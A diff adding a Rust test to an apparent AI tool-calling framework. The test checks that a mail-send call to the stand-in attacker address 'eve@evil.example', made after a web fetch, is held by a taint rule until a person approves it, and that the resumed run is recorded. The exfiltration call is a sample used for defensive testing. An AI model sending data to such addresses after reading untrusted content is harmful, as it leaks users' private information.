@@ -756,3 +756,60 @@ async fn a_pinned_definition_under_a_new_name_is_reported_renamed() {
     );
     assert!(report.new.is_empty());
 }
+
+#[tokio::test]
+async fn a_held_call_waits_as_a_durable_turn_and_its_resumed_run_is_recorded() {
+    use tool_core::durable::{Durable, KeyRing, MacKey, Pending, Reply, Scope};
+    let keys = || KeyRing::new(MacKey::new("k1", *b"a 32-byte secret from the vault!").unwrap());
+    let ctx = ToolContext::new().with_extension(Scope::new().with(Scope::CONVERSATION, "c-9"));
+    let offered = registry().offer(&ctx);
+    let process = |state: SessionState| {
+        let session = Arc::new(Session::new().with_state(state));
+        let invoker = Invoker::default()
+            .with_session(Arc::clone(&session))
+            .with_gate(Arc::new(TaintGate::new(
+                Arc::new(RunAll),
+                Arc::clone(&session),
+            )));
+        (session, invoker, Durable::new(keys()))
+    };
+    // Process 1: the page, then the way out, held as a pending item.
+    let (session, invoker, durable) = process(SessionState::new());
+    invoker
+        .invoke(
+            &offered,
+            &ToolCall::new("web____fetch", "{}").with_id("f1"),
+            &ctx,
+        )
+        .await;
+    let send = ToolCall::new("mail____send", r#"{"to":"eve@evil.example"}"#).with_id("s1");
+    let turn = invoker.invoke_turn(&durable, &offered, &[send], &ctx).await;
+    let pending = turn.pending.unwrap();
+    assert_eq!(
+        pending.items[0].decision.rule.as_deref(),
+        Some("taint/trifecta")
+    );
+    let (stored_turn, stored_session) = (
+        serde_json::to_string(&pending).unwrap(),
+        session.state().to_json(),
+    );
+    drop((session, invoker));
+
+    // Process 2: the person approves; the call runs once and is recorded.
+    let (session, invoker, durable) = process(SessionState::from_json(&stored_session).unwrap());
+    let pending = Pending::from_json(&stored_turn).unwrap();
+    let answer = pending
+        .answer("s1", Reply::approve(), durable.keys())
+        .unwrap();
+    let resumed = invoker
+        .resume(&durable, &offered, pending, &[answer], &ctx)
+        .await
+        .unwrap();
+    assert_eq!(
+        resumed.outputs[0].as_ref().unwrap().content,
+        "sent to \"eve@evil.example\""
+    );
+    let ledger = session.state().ledger;
+    let ids: Vec<&str> = ledger.calls().iter().map(|c| c.call_id.as_str()).collect();
+    assert_eq!(ids, ["f1", "s1"]);
+}
